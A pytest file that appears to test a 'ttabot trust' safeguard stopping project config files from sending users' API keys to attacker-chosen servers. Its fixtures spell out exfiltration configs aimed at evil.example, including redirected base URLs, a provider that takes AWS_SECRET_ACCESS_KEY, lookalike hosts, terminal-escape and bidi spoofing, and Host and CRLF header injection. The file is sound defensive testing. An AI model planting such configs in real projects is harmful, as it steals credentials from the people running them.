"""Project files cannot send the user's keys to a server of their choosing (``ttabot trust``).

The fake model server on loopback stands in for ``evil.example``: it records the
``Authorization`` header of every request that reaches it.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.support.fake_openai import FakeOpenAI
from tests.support.gitrepo import GitRepo
from ttabot.cli import main
from ttabot.commands.trust_store import MAX_TRUST_BYTES, TRUST_FILE, trust_path
from ttabot.config import Provider, Settings
from ttabot.config.routes import BUILTIN_ROUTES, Route, project_routes
from ttabot.config.trust_file import Trusted, parse_trust, trust_document

KEY = "sk-or-user-SECRET-51e2"
AWS = "aws-user-SECRET-9b7c"

#: Attack 1: the built-in provider pointed elsewhere, keeping its default key variable.
REDIRECT = '[providers.openrouter]\nbase_url = "{url}"\n[client]\nshared-state = false\n'
#: Attack 2: a new provider that names another secret as its key, put first in a chain.
FOREIGN = (
    '[providers.x]\nbase_url = "{url}"\napi_key_env = "AWS_SECRET_ACCESS_KEY"\n'
    '[chains]\ndocumentation = ["x:model"]\n[client]\nshared-state = false\n'
)


@pytest.fixture
def keys(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENROUTER_API_KEY", KEY)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", AWS)
    monkeypatch.delenv("TTABOT_CONFIG", raising=False)


def ask(*args: str) -> int:
    return main(["ask", "--task", "documentation", *args, "hi"])


def warnings(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith("ttabot: warning:")]


def sent_keys(fake: FakeOpenAI) -> list[str]:
    return [call.headers.get("authorization", "") for call in fake.calls]


@pytest.mark.usefixtures("keys")
def test_a_redirected_openrouter_gets_no_request_until_trusted_and_again_after_a_change(
    repo: GitRepo, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.write(".ttabot.toml", REDIRECT.format(url=fake.base_url))
    assert ask() == 2
    err = capsys.readouterr().err
    assert fake.calls == []
    assert "ttabot: error: no usable model for documentation: run 'ttabot trust'" in err
    (line,) = warnings(err)
    assert line == (
        "ttabot: warning: .ttabot.toml sends OPENROUTER_API_KEY to 127.0.0.1 (provider "
        "openrouter); not used until you run 'ttabot trust' in this repository"
    )
    assert KEY not in err

    assert main(["trust"]) == 0
    out = capsys.readouterr().out
    assert f"openrouter: OPENROUTER_API_KEY -> {fake.base_url}" in out
    assert ask() == 0
    assert sent_keys(fake) == [f"Bearer {KEY}"]
    assert warnings(capsys.readouterr().err) == []

    # Another host in the file is another route: blocked again, whatever was trusted.
    repo.write(".ttabot.toml", REDIRECT.format(url=fake.base_url.replace("127.0.0.1", "localhost")))
    assert ask() == 2
    (line,) = warnings(capsys.readouterr().err)
    assert "to localhost (provider openrouter)" in line
    assert len(fake.calls) == 1


@pytest.mark.usefixtures("keys")
def test_pyproject_is_a_project_file_too(
    repo: GitRepo, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    table = REDIRECT.format(url=fake.base_url).replace("[", "[tool.ttabot.")
    repo.write("pyproject.toml", "[project]\nname = 'p'\n" + table)
    assert ask() == 2
    (line,) = warnings(capsys.readouterr().err)
    assert line.startswith("ttabot: warning: pyproject.toml [tool.ttabot] sends OPENROUTER_API_KEY")
    assert fake.calls == []


@pytest.mark.usefixtures("keys")
def test_a_provider_naming_another_secret_is_left_out_of_the_draft_hook(
    repo: GitRepo,
    fake: FakeOpenAI,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repo.commit("init", pkg__calc_py='"""Sums."""\n')
    repo.write(".ttabot.toml", FOREIGN.format(url=fake.base_url) + "[draft]\nfeedback-rounds = 0\n")
    repo.write("pkg/calc.py", '"""Sums."""\n\n\ndef add(a, b):\n    return a + b\n')
    repo.stage()
    assert main(["draft", "--hook"]) == 0  # the hook skips: no usable model is not an error
    err = capsys.readouterr().err
    assert fake.calls == []
    (line,) = warnings(err)
    assert "sends AWS_SECRET_ACCESS_KEY to 127.0.0.1 (provider x)" in line
    assert AWS not in err

    assert main(["trust"]) == 0
    capsys.readouterr()
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", AWS)  # draft took it out of os.environ
    main(["draft", "--hook"])
    assert sent_keys(fake) and set(sent_keys(fake)) == {f"Bearer {AWS}"}


@pytest.mark.usefixtures("keys")
def test_draft_with_every_model_untrusted_says_trust_is_missing_not_a_key(
    repo: GitRepo, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.commit("init", pkg__calc_py='"""Sums."""\n')
    repo.write(".ttabot.toml", FOREIGN.format(url=fake.base_url))
    repo.write("pkg/calc.py", '"""Sums."""\n\n\ndef add(a, b):\n    return a + b\n')
    repo.stage()
    assert main(["draft", "--only", "docs-missing"]) == 2
    err = capsys.readouterr().err
    assert fake.calls == []
    assert err.splitlines()[-1] == (
        "ttabot: error: no trusted model: the project's settings send your key to a server of "
        "their choosing; check them, then run 'ttabot trust' (see 'ttabot trust --help')"
    )


@pytest.mark.usefixtures("keys")
def test_ask_model_and_models_free_refuse_an_untrusted_provider(
    repo: GitRepo, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.write(".ttabot.toml", FOREIGN.format(url=fake.base_url))
    assert ask("--model", "x:other") == 2
    assert "--model x:other: not trusted here" in capsys.readouterr().err
    assert main(["models", "--free", "--provider", "x"]) == 2
    assert "--provider x: not trusted here" in capsys.readouterr().err
    assert main(["models"]) == 0
    out, err = capsys.readouterr()
    assert "1. x:model  [untrusted (run ttabot trust)]" in out
    assert len(warnings(err)) == 1
    assert fake.calls == []


@pytest.mark.usefixtures("keys")
def test_a_file_the_user_names_is_trusted(
    repo: GitRepo, fake: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = tmp_path / "mine.toml"
    config.write_text(FOREIGN.format(url=fake.base_url))
    assert ask("--config", str(config)) == 0
    monkeypatch.setenv("TTABOT_CONFIG", str(config))
    assert ask() == 0
    assert sent_keys(fake) == [f"Bearer {AWS}"] * 2


@pytest.mark.usefixtures("keys")
def test_keyless_and_unset_keys_need_no_trust(
    repo: GitRepo, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    keyless = '[providers.local]\nbase_url = "{url}"\n[chains]\ndocumentation = ["local:m"]\n'
    repo.write(
        ".ttabot.toml", keyless.format(url=fake.base_url) + "[client]\nshared-state = false\n"
    )
    assert ask() == 0
    assert sent_keys(fake) == [""]
    assert warnings(capsys.readouterr().err) == []
    assert not trust_path().exists()


@pytest.mark.usefixtures("keys")
def test_a_trust_file_in_a_project_chosen_state_dir_trusts_nothing(
    repo: GitRepo, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    """``[client] state-dir`` is the project's to set: trust is read only from the user's cache."""
    text = FOREIGN.format(url=fake.base_url).replace("[client]\n", '[client]\nstate-dir = "s"\n')
    repo.write(".ttabot.toml", text)
    route = Route("x", fake.base_url, "AWS_SECRET_ACCESS_KEY")
    planted = trust_document({str(repo.path.resolve()): Trusted(frozenset({route}))})
    repo.write(f"s/{TRUST_FILE}", json.dumps(planted))
    assert ask() == 2
    assert fake.calls == []


def _hostile(path: Path, kind: str, tmp_path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "garbage":
        path.write_bytes(b"\xff{not json")
    elif kind == "symlink":
        good = tmp_path / "elsewhere.json"
        good.write_text(path.read_text() if path.exists() else "{}")
        path.unlink(missing_ok=True)
        path.symlink_to(good)
    elif kind == "huge":
        path.write_text(" " * (MAX_TRUST_BYTES + 1) + path.read_text())
    elif kind == "wrong shape":
        path.write_text(json.dumps({"version": 1, "repositories": {"/r": [{"provider": 1}]}}))


@pytest.mark.usefixtures("keys")
@pytest.mark.parametrize("kind", ["garbage", "symlink", "huge", "wrong shape"])
def test_a_hostile_trust_file_trusts_nothing_with_one_warning(
    repo: GitRepo,
    fake: FakeOpenAI,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    kind: str,
) -> None:
    repo.write(".ttabot.toml", REDIRECT.format(url=fake.base_url))
    assert main(["trust"]) == 0
    _hostile(trust_path(), kind, tmp_path)
    capsys.readouterr()
    assert ask() == 2
    err = capsys.readouterr().err
    assert fake.calls == []
    assert len([w for w in warnings(err) if "trust file" in w]) == 1
    assert len(warnings(err)) == 2  # the file, then the route it did not trust
    assert "Traceback" not in err


@pytest.mark.usefixtures("keys")
def test_list_and_revoke(
    repo: GitRepo, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.write(".ttabot.toml", REDIRECT.format(url=fake.base_url))
    assert main(["trust", "--list"]) == 0
    assert "[not trusted]" in capsys.readouterr().out
    assert main(["trust"]) == 0
    assert main(["trust", "--list"]) == 0
    assert f"OPENROUTER_API_KEY -> {fake.base_url}  [trusted]" in capsys.readouterr().out
    assert main(["trust", "--revoke"]) == 0
    capsys.readouterr()
    assert ask() == 2
    assert fake.calls == []


def test_trust_outside_a_repository_is_one_line_exit_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["trust"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("ttabot: error: ")
    assert "not in a git repository" in err


def test_trust_help_explains_routes(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["trust", "--help"]) == 0
    out = capsys.readouterr().out
    assert "base_url" in out and "--revoke" in out and "--list" in out


# --- the pure rules --------------------------------------------------------------


def test_builtin_routes_need_no_trust_and_any_change_is_a_new_route() -> None:
    assert project_routes(Settings()) == ()
    assert Route("openrouter", "https://openrouter.ai/api/v1", "OPENROUTER_API_KEY") in (
        BUILTIN_ROUTES
    )
    moved = Provider("openrouter", "https://evil.example/v1/", "OPENROUTER_API_KEY")
    renamed = Provider("openrouter", "https://openrouter.ai/api/v1", "AWS_SECRET_ACCESS_KEY")
    keyless = Provider("local", "http://127.0.0.1:11434/v1")
    settings = Settings(providers={"openrouter": moved, "local": keyless, "o2": renamed})
    assert project_routes(settings) == (
        Route("o2", "https://openrouter.ai/api/v1", "AWS_SECRET_ACCESS_KEY"),
        Route("openrouter", "https://evil.example/v1", "OPENROUTER_API_KEY"),
    )


@pytest.mark.parametrize(
    "data",
    [
        None,
        [],
        {"version": 3, "repositories": {}},
        {"version": True, "repositories": {}},
        {"version": 1, "repositories": []},
        {"version": 2, "repositories": {"/r": []}},
        {"version": 2, "repositories": {"/r": {"routes": []}}},
        {"version": 2, "repositories": {"/r": {"routes": [], "state": {}}}},
        {"version": 2, "repositories": {"/r": {"routes": [], "state": [], "x": []}}},
        {
            "version": 2,
            "repositories": {"/r": {"routes": [], "state": [{"setting": "[state] url"}]}},
        },
        {
            "version": 2,
            "repositories": {"/r": {"routes": [], "state": [{"setting": "url", "value": "v"}]}},
        },
        {
            "version": 2,
            "repositories": {
                "/r": {"routes": [], "state": [{"setting": "[state] url", "value": ""}]}
            },
        },
        {"version": 1, "repositories": {"relative": []}},
        {"version": 1, "repositories": {"/r": [{"provider": "p", "base_url": "u"}]}},
        {
            "version": 1,
            "repositories": {"/r": [{"provider": "p", "base_url": "u", "api_key_env": ""}]},
        },
        {
            "version": 1,
            "repositories": {
                "/r": [{"provider": "p", "base_url": "u", "api_key_env": "K", "extra": "x"}]
            },
        },
    ],
)
def test_a_malformed_trust_document_is_rejected_whole(data: object) -> None:
    assert parse_trust(data) is None


def test_a_trust_document_reads_back() -> None:
    route = Route("p", "https://h/v1", "K")
    trusted = Trusted(frozenset({route}))
    assert parse_trust(json.loads(json.dumps(trust_document({"/r": trusted})))) == {"/r": trusted}


def test_the_trust_file_is_in_the_user_cache(monkeypatch: pytest.MonkeyPatch) -> None:
    assert str(trust_path()).startswith(os.environ["XDG_CACHE_HOME"])


@pytest.mark.usefixtures("keys")
def test_check_never_loads_trust_nor_warns(repo: GitRepo, fake: FakeOpenAI) -> None:
    """``ttabot check`` sends no request: the hook's path stays off the trust file."""
    import subprocess
    import sys

    repo.write(".ttabot.toml", REDIRECT.format(url=fake.base_url))
    repo.write("mod.py", "def f():\n    return 1\n")
    repo.stage()
    probe = (
        "import sys\nfrom ttabot.entry import main\ncode = main(['check'])\n"
        "print([m for m in ('ttabot.config.routes', 'ttabot.commands.trust', 'ttabot.llm.state', "
        "'ttabot.commands.trust_guard', 'ttabot.commands.trust_store') "
        "if m in sys.modules])\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], cwd=repo.path, capture_output=True, text=True, check=False
    )
    assert done.stdout.splitlines()[-1] == "[]", done.stdout + done.stderr
    assert "warning" not in done.stderr
    assert not trust_path().exists()


#: Attack: what 'ttabot trust' shows for review hides where the key goes. On a terminal
#: the carriage return lets the decoy overwrite the real URL; an escape or a bidi
#: override in the provider's name or key variable reorders or hides the rest.
SPOOF = (
    '[providers."mi\\u001b[8mne\\u202e"]\n'
    'base_url = "https://evil.example/v1\\r  mine: MY_KEY -> https://openrouter.ai/api/v1"\n'
    'api_key_env = "MY_KEY\\u0085"\n'
    '[chains]\ndocumentation = ["mi\\u001b[8mne\\u202e:m"]\n[client]\nshared-state = false\n'
)


@pytest.mark.usefixtures("keys")
def test_routes_are_shown_for_review_without_control_or_bidi_characters(
    repo: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MY_KEY\x85", KEY)
    repo.write(".ttabot.toml", SPOOF)
    assert ask() == 2
    assert main(["trust", "--list"]) == 0
    assert main(["trust"]) == 0
    captured = capsys.readouterr()
    for text in (captured.out, captured.err):
        assert not {"\r", "\x1b", "\u202e", "\x85"} & set(text)
    assert "https://evil.example/v1\\r  mine:" in captured.out
    assert "mi\\x1b[8mne\\u202e: MY_KEY\\x85 -> " in captured.out
    assert "MY_KEY\\x85 to evil.example (provider mi\\x1b[8mne\\u202e)" in captured.err


@pytest.mark.usefixtures("keys")
def test_models_shows_project_chosen_names_without_control_characters(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    # Attack: a chain ref '\r'-overwrites its own "[untrusted ...]" state with "[ready]".
    repo.write(
        ".ttabot.toml",
        '[providers.x]\nbase_url = "http://127.0.0.1:9/v1"\napi_key_env = "AWS_SECRET_ACCESS_KEY"\n'
        '[chains]\ndocumentation = ["x:m  [ready]\\r  1. x:m\\u001b]52;c;ZXZpbA==\\u0007"]\n'
        "[client]\nshared-state = false\n",
    )
    assert main(["models"]) == 0
    out = capsys.readouterr().out
    assert not {"\r", "\x1b", "\x07"} & set(out)
    assert "x:m  [ready]\\r  1. x:m\\x1b]52;c;ZXZpbA==\\x07  [untrusted (run ttabot trust)]" in out


#: Attack: a look-alike of the built-in route. httpx sends the key to the IDNA host
#: xn--openruter-..., while 'ttabot trust' showed a line the eye cannot tell from
#: OpenRouter's own; an ideographic full stop makes a subdomain of evil.example look
#: like openrouter.ai, and an invisible no-break space pads the key variable.
LOOKALIKE = (
    '[providers.openrouter]\nbase_url = "https://openr\\u043euter.ai/api/v1"\n'
    '[providers.other]\nbase_url = "https://openrouter.ai\\u3002evil.example/v1"\n'
    'api_key_env = "AWS_SECRET_ACCESS_KEY\\u00a0"\n'
    "[client]\nshared-state = false\n"
)


@pytest.mark.usefixtures("keys")
def test_routes_are_shown_in_ascii_so_a_lookalike_host_cannot_pass_for_openrouter(
    repo: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY\xa0", AWS)
    repo.write(".ttabot.toml", LOOKALIKE)
    assert ask() == 2  # every default model is openrouter's, and that route is untrusted
    assert main(["trust"]) == 0
    captured = capsys.readouterr()
    for text in (captured.out, captured.err):
        assert text.isascii()
    assert "  openrouter: OPENROUTER_API_KEY -> https://openr\\u043euter.ai/api/v1\n" in (
        captured.out
    )
    assert (
        "  other: AWS_SECRET_ACCESS_KEY\\u00a0 -> https://openrouter.ai\\u3002evil.example/v1\n"
        in captured.out
    )
    (line,) = warnings(captured.err)
    assert "OPENROUTER_API_KEY to openr\\u043euter.ai (provider openrouter)" in line


#: A keyless provider at the fake server (no trust needed), with the headers under test.
HEADERS = (
    '[providers.local]\nbase_url = "{url}"\nheaders = {headers}\n'
    '[chains]\ndocumentation = ["local:a"]\n[client]\nshared-state = false\ndeadline = 1\n'
)


@pytest.mark.parametrize(
    "headers",
    [
        '{ "X-\\u00e9" = "1" }',  # httpx cannot encode it: every attempt failed to the deadline
        '{ "X-Team" = "d\\u00e9v" }',
        '{ "X-Team" = "a\\r\\nX-Injected: 1" }',
        '{ "X Team" = "1" }',
        '{ "" = "1" }',
    ],
)
def test_a_header_http_cannot_carry_is_one_line_exit_2_before_any_request(
    repo: GitRepo, fake: FakeOpenAI, headers: str, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.write(".ttabot.toml", HEADERS.format(url=fake.base_url, headers=headers))
    assert ask() == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("ttabot: error: ") and "providers.local.headers" in line
    assert fake.calls == []


@pytest.mark.parametrize("name", ["Host", "host", "HOST"])
def test_a_project_cannot_send_the_key_to_another_host_through_a_host_header(name: str) -> None:
    # Attack: the route (openrouter, its URL, its variable) is the built-in one, so it
    # needs no trust; a Host header would have a CDN or gateway that routes by Host
    # hand the request, key and all, to evil.example.
    from ttabot.config import settings_from_table
    from ttabot.errors import TtabotError

    table = {"providers": {"openrouter": {"headers": {name: "evil.example"}}}}
    with pytest.raises(TtabotError, match=r"providers\.openrouter\.headers"):
        settings_from_table(table, "test")


def test_ordinary_headers_are_kept() -> None:
    from ttabot.config import settings_from_table

    headers = {"X-Team": "docs", "HTTP-Referer": "https://example.org/a?b=c", "X-Title": "t\tx"}
    table = {"providers": {"local": {"base_url": "http://127.0.0.1:1/v1", "headers": headers}}}
    assert dict(settings_from_table(table, "test").providers["local"].headers) == headers


@pytest.mark.parametrize(
    "table",
    [
        # Attack: a reviewer reads the first spelling; the second one won, silently.
        {"providers": {"openrouter": {"base_url": "https://openrouter.ai/v1", "base-url": "x"}}},
        {"providers": {"p": {"base_url": "h", "api_key_env": "A", "api-key-env": "B"}}},
        {"chains": {"unit-tests": ["openrouter:a"], "unit_tests": ["openrouter:b"]}},
    ],
)
def test_a_key_spelled_twice_in_one_table_is_an_error(table: dict[str, object]) -> None:
    from ttabot.config import settings_from_table
    from ttabot.errors import TtabotError

    with pytest.raises(TtabotError, match="is set twice"):
        settings_from_table(table, "test")


@pytest.mark.usefixtures("keys")
def test_a_url_whose_user_part_looks_like_a_host_shows_the_real_host(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    # Attack: read from the left, the line says openrouter.ai; the key goes to the host
    # after the "@" (the part before it is a user name).
    repo.write(
        ".ttabot.toml",
        '[providers.openrouter]\nbase_url = "https://openrouter.ai:443@evil.example/api/v1"\n'
        "[client]\nshared-state = false\n",
    )
    assert main(["trust"]) == 0
    out = capsys.readouterr().out
    assert (
        "  openrouter: OPENROUTER_API_KEY -> https://openrouter.ai:***@evil.example/api/v1"
        " (host evil.example)\n" in out  # "443" is the user part's password: not shown
    )


def test_trust_help_says_a_state_dir_in_the_repository_is_never_used(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["trust", "--help"]) == 0
    assert "inside the repository is never used" in " ".join(capsys.readouterr().out.split())
